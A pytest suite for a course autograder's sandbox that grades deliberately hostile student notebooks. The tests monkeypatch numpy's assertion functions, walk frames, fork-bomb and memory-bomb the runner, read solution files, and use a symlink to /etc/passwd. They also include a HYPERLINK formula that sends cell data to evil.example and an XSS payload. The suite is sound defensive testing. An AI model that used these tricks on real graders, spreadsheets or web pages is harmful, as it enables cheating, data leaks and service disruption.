"""The grader against hostile, broken and noisy submissions of 02_momentum.

Every case is one student of one class, graded once (`battery`, jobs=2, the
sandbox on), and has the exact score and status it must get. Hostile answers
are wrong (they return their inputs unchanged, which passes only the
"inputs unchanged" tests: BASE points) and try to make the tests pass anyway,
or to reach what they must not: if an attempt worked, the student would score
more than BASE or leave a file behind, and the asserts below would see it.
Honest but noisy notebooks must keep full marks.
"""

from __future__ import annotations

import csv
import html
import io
import os
import re
import subprocess
import sys
from pathlib import Path

import nbformat
import pytest
from conftest import isolation_or_skip

from autograder import notebooks as nbs
from autograder.grade import grade
from autograder.isolation import HIDDEN
from autograder.report import CONTROL_START, FORMULA_START

SLUG = "02_momentum"
SOURCE = nbs.read(nbs.source_path(SLUG))
RELEASE = nbs.read(nbs.release_path(SLUG))
REFERENCE = nbs.reference_answers(SOURCE)
FULL = nbs.max_score(SOURCE)
BASE = 2.0  # the two "inputs unchanged" tests, which a function returning copies of its inputs passes
SECRET = "hostile-was-here"

WRONG = {
    "momentum_step": "def momentum_step(theta, v, g, lr, alpha):\n    return theta.copy(), v.copy()",
    "nesterov_step": "def nesterov_step(theta, v, grad_fn, lr, alpha):\n    return theta.copy(), v.copy()",
}


def wrong(prelude: str = "", body: str = "", nesterov: str | None = None) -> dict[str, str]:
    """Wrong answers with hostile code: `prelude` at the top of the cell, `body` run at every call."""
    indented = "".join(f"    {line}\n" for line in body.splitlines())
    momentum = f"{prelude}\ndef momentum_step(theta, v, g, lr, alpha):\n{indented}    return theta.copy(), v.copy()"
    return {"momentum_step": momentum, "nesterov_step": nesterov or WRONG["nesterov_step"]}


def notebook(answers: dict[str, str], extra: str | None = None, at: int | None = None):
    nb = nbs.fill_answers(RELEASE, answers)
    if extra is not None:
        where = at if at is not None else next(i for i, c in enumerate(nb.cells) if nbs.is_answer(c))
        nb.cells.insert(where, nbformat.v4.new_code_cell(extra, id="student-extra"))
    return nb


def fault(body: str) -> dict[str, str]:
    """The reference's answers, but nesterov_step runs ``body`` when it is called."""
    indented = "".join(f"    {line}\n" for line in body.splitlines())
    return {**REFERENCE, "nesterov_step": f"def nesterov_step(theta, v, grad_fn, lr, alpha):\n{indented}"}


HALF = 8.0  # momentum_step's tests: what a notebook whose nesterov_step faults keeps
FAKE_PASS = "lambda *args, **kwargs: None"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)>"
# Looking without opening: stat and listdir raise no audit event, so only the mount namespace hides these.
LOOK = (
    "import os\ndef seen(p):\n    try:\n"
    "        return os.path.exists(p) and (os.path.isfile(p) or bool(os.listdir(p)))\n"
    "    except OSError:\n        return False\n"
)
# If the look succeeded, momentum_step answers right.
RIGHT_IF_SEEN = "if _seen:\n    v_new = alpha * v - lr * g\n    return theta + v_new, v_new"

# student id -> (answers and extra cell, expected status, expected score). Paths are filled in by the fixture.
HOSTILE = {
    # Monkeypatching what the tests judge with.
    "patch-assert-allclose": (wrong(f"import numpy as np\nnp.testing.assert_allclose = {FAKE_PASS}"), "tampered", 0),
    "patch-at-call-time": (
        wrong("import numpy", f"numpy.testing.assert_allclose = numpy.allclose = {FAKE_PASS}"),
        "tampered",
        0,
    ),
    "patch-numpy-internals": (
        wrong("import numpy._core.numeric as n\nn.isclose = lambda a, b, **k: True"),
        "tampered",
        0,
    ),
    "patch-builtins": (wrong("import builtins\nbuiltins.abs = lambda x: 0.0\nbuiltins.len = len"), "tampered", 0),
    "patch-and-undo": (  # patched during one call, undone during the next: caught at the first return
        wrong(
            "import numpy as np\n_real = np.testing.assert_allclose\n_n = [0]",
            f"_n[0] += 1\nnp.testing.assert_allclose = ({FAKE_PASS}) if _n[0] % 2 else _real",
        ),
        "tampered",
        0,
    ),
    "shadow-in-numpy-globals": (  # a global added to numpy's own module, through a function's __globals__
        wrong(
            "import numpy as np\n_n = [0]",
            "_n[0] += 1\nG = np.testing.assert_allclose.__globals__\n"
            "if _n[0] % 2:\n    G['isinstance'] = lambda *a: True\nelse:\n    G.pop('isinstance', None)",
        ),
        "tampered",
        0,
    ),
    # Redefining what the tests use, in the student's own namespace: no effect on the tests.
    "rebind-np-and-helpers": (
        wrong(),
        "class _Yes:\n    def __getattr__(self, name):\n        return self\n    def __call__(self, *a, **k):\n"
        "        return None\nnp = _Yes()\nquadratic = rosenbrock = isinstance = _Yes()\nAssertionError = Exception",
        "ok",
        BASE,
    ),
    # IPython's pipeline: there is none to hook.
    "input-transformer": (
        wrong("ip = get_ipython()\nip.input_transformers_cleanup.append(lambda lines: ['pass\\n'])"),
        "ok",
        1,
    ),
    # Frame and object-graph tricks to reach the test's variables.
    "frame-walk": (
        wrong("import sys", "sys._getframe(1).f_globals['np'] = None"),
        "tampered",
        0,
    ),
    "traceback-frame": (
        wrong(
            "",
            "try:\n    raise ValueError\nexcept ValueError as e:\n"
            "    e.__traceback__.tb_frame.f_back.f_globals.clear()",
        ),
        "tampered",
        0,
    ),
    "gc-walk": (wrong("import gc", "[o for o in gc.get_objects() if isinstance(o, dict)]"), "tampered", 0),
    "settrace": (wrong("import sys\nsys.settrace(lambda *a: None)"), "tampered", 0),
    "ctypes": (wrong("import ctypes\nctypes.pythonapi.Py_IncRef"), "tampered", 0),
    "grad-fn-globals": (  # the function a test passes in does not expose the test's variables
        {
            "momentum_step": WRONG["momentum_step"],
            "nesterov_step": "def nesterov_step(theta, v, grad_fn, lr, alpha):\n"
            "    grad_fn.__globals__['np'].testing.assert_allclose = lambda *a, **k: None\n"
            "    return theta.copy(), v.copy()",
        },
        "ok",
        1,
    ),
    # Return values that lie in comparisons never reach a test.
    "always-equal": (
        {
            "momentum_step": "class Yes(float):\n    def __eq__(self, other):\n        return True\n"
            "    __ne__ = __lt__ = __gt__ = __le__ = __ge__ = lambda s, o: False\n"
            "    def __array__(self, *a, **k):\n        import numpy\n        return numpy.zeros(0)\n"
            "def momentum_step(theta, v, g, lr, alpha):\n    return Yes(), Yes()",
            "nesterov_step": WRONG["nesterov_step"],
        },
        "ok",
        1,
    ),
    "ndarray-subclass": (
        {
            "momentum_step": "import numpy as np\nclass Liar(np.ndarray):\n"
            "    def __array_ufunc__(self, *a, **k):\n        return True\n"
            "def momentum_step(theta, v, g, lr, alpha):\n    return theta.copy().view(Liar), v.copy().view(Liar)",
            "nesterov_step": WRONG["nesterov_step"],
        },
        "ok",
        BASE,
    ),
    # Code that would run inside the grader if the grader touched it: it does not.
    "callable-instance": (
        {
            "momentum_step": "import numpy\nclass Sneaky:\n    def __getattr__(self, name):\n"
            f"        numpy.testing.assert_allclose = {FAKE_PASS}\n        raise AttributeError(name)\n"
            "    def __call__(self, theta, v, g, lr, alpha):\n        return theta.copy(), v.copy()\n"
            "momentum_step = Sneaky()",
            "nesterov_step": WRONG["nesterov_step"],
        },
        "ok",
        BASE,
    ),
    "patch-stdlib-helpers": (  # the standard library numpy's comparisons use is trusted too
        wrong(
            "import ast, contextlib, numpy\n"
            f"def evil(*a, **k):\n    numpy.testing.assert_allclose = {FAKE_PASS}\n    raise RuntimeError\n"
            "contextlib.suppress = ast.parse = ast.walk = evil"
        ),
        "tampered",
        0,
    ),
    # Ending or killing the process.
    "sys-exit": (  # a SystemExit is an error in that cell; the other function is still graded
        {"momentum_step": REFERENCE["momentum_step"], "nesterov_step": "import sys\nsys.exit(0)"},
        "ok",
        8,
    ),
    "os-exit": ({**REFERENCE, "nesterov_step": "import os\nos._exit(0)"}, "ok", HALF),  # costs what it defines
    "kill-self": (wrong("import os\nos.kill(os.getpid(), 9)"), "tampered", 0),
    # Forging results on the grader's channel.
    "forge-results": (
        wrong(
            "import os, marshal\nfor fd in range(3, 64):\n    try:\n"
            "        f = marshal.dumps(('0' * 32, 'done', None))\n"
            "        os.write(fd, len(f).to_bytes(4, 'big') + f)\n    except OSError:\n        pass"
        ),
        "tampered",
        0,
    ),
    "read-stdin": (  # the plan (hidden tests included) came on stdin, which is closed before student code
        {
            "momentum_step": WRONG["momentum_step"],
            "nesterov_step": "import os\ndef nesterov_step(theta, v, grad_fn, lr, alpha):\n"
            "    raise RuntimeError(repr(os.read(0, 100000)))",
        },
        "ok",
        1,
    ),
    # Reaching what must stay out of reach.
    "read-solutions": (wrong("exec(open({solution!r}).read())"), "tampered", 0),
    "see-solutions": (  # no audit event for listdir/stat: the mount namespace alone must hide them
        wrong(LOOK + "_seen = seen({solution!r}) or seen({solutions!r})", RIGHT_IF_SEEN),
        "ok",
        BASE,
    ),
    "see-other-student": (
        wrong(LOOK + "_seen = seen({other!r}) or seen({submissions!r}) or seen({out!r})", RIGHT_IF_SEEN),
        "ok",
        BASE,
    ),
    "run-as-root": (  # the runner is user nobody
        wrong("import os\n_seen = 0 in (os.getuid(), os.geteuid(), os.getgid())", RIGHT_IF_SEEN),
        "ok",
        BASE,
    ),
    "regain-privileges": (  # no capability is left to become root again or to change the filesystem's root
        wrong(
            "import os\ndef _works(f):\n    try:\n        f()\n        return True\n    except (OSError, ValueError):\n"
            "        return False\n_seen = _works(lambda: os.setresuid(0, 0, 0)) or _works(lambda: os.chroot('.'))",
            RIGHT_IF_SEEN,
        ),
        "ok",
        BASE,
    ),
    "write-output": (wrong("open({out!r} + '/pwned.txt', 'w').write('x')"), "tampered", 0),
    "unaudited-writes": (  # os.mkfifo raises no audit event: only the read-only mounts stop it
        wrong(
            "import os\nfor _p in ({out!r}, {home!r}, {course!r}, '/tmp', '/var/tmp', '/dev/shm'):\n"
            "    try:\n        os.mkfifo(_p + '/pwned-fifo')\n    except OSError:\n        pass"
        ),
        "ok",
        BASE,
    ),
    "socket": (wrong("import socket\nsocket.create_connection(('127.0.0.1', 80), timeout=1)"), "tampered", 0),
    "subprocess": (wrong("import subprocess\nsubprocess.run(['touch', {out!r} + '/pwned.txt'])"), "tampered", 0),
    "fork-bomb": (wrong("import os\nwhile True:\n    os.fork()"), "tampered", 0),
    "thread": (  # a background thread that patches numpy while the tests run cannot start
        wrong(
            "import threading, numpy\n"
            f"threading.Thread(target=lambda: setattr(numpy.testing, 'assert_allclose', {FAKE_PASS})).start()"
        ),
        "ok",
        1,
    ),
    # Student text that would be a live formula in a spreadsheet, or markup in a page: it reaches the
    # reports inert (checked in test_student_text_reaches_the_reports_inert).
    "formula-and-markup": (
        {
            "momentum_step": f"E = type({FORMULA!r}, (Exception,), {{}})\n"
            f"def momentum_step(theta, v, g, lr, alpha):\n    raise E({MARKUP!r})",
            "nesterov_step": WRONG["nesterov_step"],
        },
        "ok",
        1,
    ),
    # Resources and faults: each costs only the tests it stops (and what a cell that never finished defines).
    "memory-bomb": (wrong("blob = bytearray(8 * 1024**3)"), "ok", 1),  # momentum_step is never defined
}

# Correct notebooks but for one fault: (answers, extra cell at the end or None, expected score, words in the reason).
FAULTS = {
    "one-function-loops": (fault("while True:\n    pass"), None, HALF, "test_nesterov_step_one_step: time limit"),
    "one-function-exhausts-memory": (
        fault("blob = bytearray(8 * 1024**3)"),
        None,
        HALF,
        "test_nesterov_step_one_step: out of memory",
    ),
    "one-function-exits": (fault("import os\nos._exit(3)"), None, HALF, "test_nesterov_step_one_step: crashed"),
    "one-function-segfaults": (  # C recursion past the stack: SIGSEGV
        fault("import sys\nsys.setrecursionlimit(10**8)\ndef f(n):\n    return list(map(f, [n]))\nf(0)"),
        None,
        HALF,
        "test_nesterov_step_one_step: crashed",
    ),
    "loops-while-defining": (
        {**REFERENCE, "nesterov_step": "while True:\n    pass\n" + REFERENCE["nesterov_step"]},
        None,
        HALF,
        "your cell defining nesterov_step: time limit",
    ),
    "late-endless-loop": (REFERENCE, "while True:\n    pass", FULL, ""),  # a scratch cell after every test
}

NOISY = {
    "noise-everywhere": (
        REFERENCE,
        "import sys, warnings\nimport matplotlib.pyplot as plt\nprint('x' * 10**6, file=sys.stderr)\n"
        "for _ in range(200):\n    print('y' * 10**6)\n"
        "warnings.warn('careful', DeprecationWarning)\nwarnings.warn('a user warning')\n"
        "plt.plot([0, 1], [1, 0]); plt.show(); display(plt.gcf()); plt.close('all')\n"
        "def _my_helper(x):\n    return x\n",
    ),
    "strict-settings": (  # settings a student makes for their own debugging never cost points in the tests
        REFERENCE,
        "import warnings, sys, os\nimport numpy as np\nwarnings.simplefilter('error')\n"
        "np.seterr(all='raise')\nnp.set_printoptions(precision=2)\nsys.setrecursionlimit(200)\nos.chdir('/')\n",
    ),
    "magics-and-helpers": (
        {
            "momentum_step": "import numpy as np\n\ndef _velocity(v, g, lr, alpha):\n    return alpha * v - lr * g\n\n"
            "def momentum_step(theta, v, g, lr, alpha):\n    v = _velocity(v, g, lr, alpha)\n    return theta + v, v",
            "nesterov_step": REFERENCE["nesterov_step"],
        },
        "%matplotlib inline\n%config InlineBackend.figure_format = 'svg'\nfrom collections import namedtuple\n"
        "Point = namedtuple('Point', 'x y')\nimport enum\nColor = enum.Enum('Color', 'RED GREEN')\n"
        "with open('scratch.txt', 'w') as f:\n    f.write('my notes')\nimport pathlib\n"
        "assert pathlib.Path('scratch.txt').read_text() == 'my notes'",
    ),
    "failing-extra-cell": (REFERENCE, "raise ValueError('a cell of my own that fails')\n"),
}


def _files(subs: Path, out: Path) -> dict[str, tuple[str, float]]:
    """The broken-file cases: what sits where the notebook should be."""
    good = nbs.dumps(nbs.fill_answers(RELEASE, REFERENCE))
    cases = {
        "corrupt-json": ("unreadable", lambda p: p.write_text(good[: len(good) // 2])),
        "binary-garbage": ("unreadable", lambda p: p.write_bytes(os.urandom(4096))),
        "huge-file": ("unreadable", lambda p: p.write_bytes(b" " * (21 << 20) + good.encode())),
        "empty-json": ("unreadable", lambda p: p.write_text("{}")),
        "folder-instead": ("unreadable", lambda p: p.mkdir()),
        "symlink-passwd": ("unreadable", lambda p: p.symlink_to("/etc/passwd")),
        "symlink-solution": ("unreadable", lambda p: p.symlink_to(nbs.source_path(SLUG))),
        "duplicate-ids": ("invalid", lambda p: p.write_text(_dup(good))),
        "other-chapter": ("wrong-notebook", lambda p: p.write_text(_other_chapter())),
        "missing": ("missing", lambda p: None),
    }
    for student, (_, make) in cases.items():
        path = subs / student / SLUG / f"{SLUG}.ipynb"
        path.parent.mkdir(parents=True, exist_ok=True)
        make(path)
    # A chapter folder that is a link to solutions/: the student's own folder is what counts.
    (subs / "symlink-folder").mkdir()
    (subs / "symlink-folder" / SLUG).symlink_to(nbs.source_path(SLUG).parent)
    cases["symlink-folder"] = ("unreadable", None)
    return {student: (status, 0.0) for student, (status, _) in cases.items()}


def _fill(text: str, paths: dict[str, str]) -> str:
    for key, value in paths.items():
        text = text.replace("{" + key + "!r}", repr(value))
    return text


def _dup(text: str) -> str:
    import json

    data = json.loads(text)
    data["cells"][2]["id"] = data["cells"][1]["id"]
    return json.dumps(data)


def _other_chapter() -> str:
    other = [s for s in nbs.chapter_slugs() if s != SLUG]
    if not other:
        return nbs.dumps(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("1")]))
    return nbs.dumps(nbs.read(nbs.release_path(other[0])))


@pytest.fixture(scope="module")
def battery(tmp_path_factory):
    isolation_or_skip()
    root = tmp_path_factory.mktemp("battery")
    subs, out = root / "submissions", root / "out"
    out.mkdir()
    honest = subs / "honest" / SLUG / f"{SLUG}.ipynb"
    paths = {
        "solution": str(nbs.source_path(SLUG)),
        "solutions": str(nbs.source_path(SLUG).parent.parent),
        "other": str(honest),
        "submissions": str(subs),
        "out": str(out),
        "home": str(Path.home()),
        "course": str(nbs.ROOT),
    }
    expected = {"honest": ("ok", FULL), "wrong": ("ok", BASE)}
    nbs.write(notebook(REFERENCE), honest)
    nbs.write(notebook(WRONG), subs / "wrong" / SLUG / f"{SLUG}.ipynb")
    for student, (answers, *rest) in HOSTILE.items():
        extra, status, score = rest if len(rest) == 3 else (None, *rest)
        answers = {k: _fill(v, paths) for k, v in answers.items()}
        nbs.write(notebook(answers, extra), subs / student / SLUG / f"{SLUG}.ipynb")
        expected[student] = (status, score)
    for student, (answers, extra) in NOISY.items():
        nbs.write(notebook(answers, extra), subs / student / SLUG / f"{SLUG}.ipynb")
        expected[student] = ("ok", FULL)
    for student, (answers, extra, score, _) in FAULTS.items():
        at = len(notebook(answers).cells) if extra else None
        nbs.write(notebook(answers, extra, at), subs / student / SLUG / f"{SLUG}.ipynb")
        expected[student] = ("ok", score)
    expected.update(_files(subs, out))
    rows = grade(subs, out, jobs=2, cell_timeout=5, notebook_timeout=60, progress=io.StringIO())
    return {r["student_id"]: r for r in rows}, expected, out


CASES = ["honest", "wrong", *HOSTILE, *NOISY, *FAULTS]
FILE_CASES = [
    "corrupt-json",
    "binary-garbage",
    "huge-file",
    "empty-json",
    "folder-instead",
    "symlink-passwd",
    "symlink-solution",
    "symlink-folder",
    "duplicate-ids",
    "other-chapter",
    "missing",
]


def test_the_battery_is_big_enough():
    assert len(HOSTILE) + len(FILE_CASES) >= 20 and len(NOISY) >= 3


@pytest.mark.parametrize("student", CASES + FILE_CASES)
def test_each_submission_gets_its_exact_score_and_status(battery, student):
    rows, expected, _ = battery
    row = rows[student]
    failed = [(t["test"], t["message"][:120]) for t in row["tests"] if not t["passed"]]
    assert (row["status"], row["score"]) == expected[student], (row["reason"], failed)
    assert row["max_score"] == FULL
    if row["status"] != "ok":
        assert row["reason"], "a status other than ok always says why"


@pytest.mark.parametrize("student", FAULTS)
def test_a_fault_is_named_in_the_reason_and_in_its_tests_message(battery, student):
    rows, _, out = battery
    row, words = rows[student], FAULTS[student][3]
    assert words in row["reason"] if words else row["reason"] == ""
    if words.startswith("test_"):
        test, what = words.split(": ")
        message = next(t["message"] for t in row["tests"] if t["test"] == test)
        assert message.startswith(what), message
    if words.startswith("your cell defining nesterov_step"):
        message = next(t["message"] for t in row["tests"] if t["test"] == "test_nesterov_step_one_step")
        assert message == "not run: your cell defining nesterov_step did not finish (time limit)"
    if words:
        page = (out / "feedback" / student / f"{SLUG}.html").read_text()
        assert html.escape(words) in page, "the feedback page says what stopped"


def test_nothing_was_written_outside_the_sandbox(battery):
    _, _, out = battery
    for folder in (out, Path.home(), nbs.ROOT, Path("/tmp"), Path("/var/tmp"), Path("/dev/shm")):
        assert not list(folder.glob("pwned*")), folder


def test_the_runner_is_nobody_without_privileges_in_an_empty_read_only_world():
    """What the runner's own view looks like, for whoever grades (root, or a normal user in a user namespace)."""
    isolation_or_skip()
    done = subprocess.run(
        [sys.executable, "-m", "autograder.isolation", str(nbs.ROOT)], capture_output=True, text=True, timeout=60
    )
    assert done.returncode == 0, done.stderr
    seen = dict(line.split(" ", 1) for line in done.stdout.splitlines())
    assert seen["uid"] == "65534 65534 gid 65534 65534"
    for key in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
        assert int(seen[key], 16) == 0, key
    assert seen["NoNewPrivs"] == "1"
    assert seen["processes"] == "[1]"  # its own PID namespace: no other process to signal or inspect
    assert seen["visible"] == "[]", f"the hidden folders {HIDDEN} show files"
    assert seen["writable"] == "[]"


def test_the_reports_are_whole_and_hide_hidden_tests(battery):
    rows, _, out = battery
    with open(out / "grades.csv", newline="") as f:
        graded = list(csv.DictReader(f))
    assert list(graded[0])[:6] == ["student_id", "chapter", "score", "max_score", "status", "reason"]
    assert {r["student_id"] for r in graded} == set(rows)
    pages = "\n".join(p.read_text() for p in (out / "feedback").rglob("*.html"))
    for line in nbs.hidden_lines(SOURCE):
        if len(line) > 12 and not line.startswith("###"):
            assert line not in pages
    assert "Traceback" in pages  # visible tests still show where they failed


def test_messages_are_capped(battery):
    rows, _, _ = battery
    assert all(len(t["message"]) <= 500 for r in rows.values() for t in r["tests"])


def test_student_text_reaches_the_reports_inert(battery):
    """An exception class named like a formula, with markup for a message: text in every report."""
    _, _, out = battery
    with open(out / "tests.csv", newline="") as f:
        cells = list(csv.reader(f))
    for row in cells:
        for cell in row:
            number = re.fullmatch(r"-?\d+(\.\d+)?", cell)
            assert number or not cell.lstrip().startswith(FORMULA_START + CONTROL_START), cell
    with open(out / "tests.csv", newline="") as f:
        mine = [r for r in csv.DictReader(f) if r["student_id"] == "formula-and-markup"]
    said = [r["message"] for r in mine if r["test"].startswith("test_momentum_step")]
    assert said and all(m.startswith("'" + FORMULA) for m in said), said
    page = (out / "feedback" / "formula-and-markup" / f"{SLUG}.html").read_text()
    assert "<script" not in page and "<img" not in page
    assert page.count("&lt;script&gt;alert(1)") >= 2, "the message and the traceback's line, escaped"
    summary = (out / "summary.html").read_text()
    assert "<script" not in summary and "<img" not in summary


def test_the_integrity_checks_fast_path_still_sees_every_change(tmp_path, monkeypatch):
    """The checks pass over a module whose dict was not written since it matched; a write is always seen."""
    import string

    import numpy as np
    import numpy.testing  # numpy imports it lazily; the runner has it before the snapshot

    from autograder import guards

    watch = guards.dict_versions()
    assert watch is not None, "this Python's dicts cannot be watched: every check would compare in full (slow)"
    probe = {}
    version = watch(probe)
    before = version[0]
    probe["x"] = 1
    assert version[0] != before
    monkeypatch.chdir(tmp_path)  # restore() goes back to the runner's folder
    changed, restore, _, _ = guards.integrity([{"source": "np.testing.assert_allclose(1, 1)"}], str(tmp_path))
    real_check, real_digits = np.testing.assert_allclose, string.digits
    try:
        assert changed("hot") is None and changed() is None
        np.testing.assert_allclose = real_check  # written, but the same: not a change
        assert changed("hot") is None and changed() is None
        np.testing.assert_allclose = len  # patched in one call ...
        assert changed("hot") == "numpy.testing.assert_allclose was changed"
        np.testing.assert_allclose = real_check  # ... undone in the next: nothing left to see
        assert changed("hot") is None and changed() is None
        string.digits = "0"  # not a hot module: seen after the cell, put back before the next test
        assert changed("hot") is None
        assert changed() == "string.digits was changed"
        restore()
        assert string.digits is real_digits and changed() is None
    finally:
        np.testing.assert_allclose, string.digits = real_check, real_digits
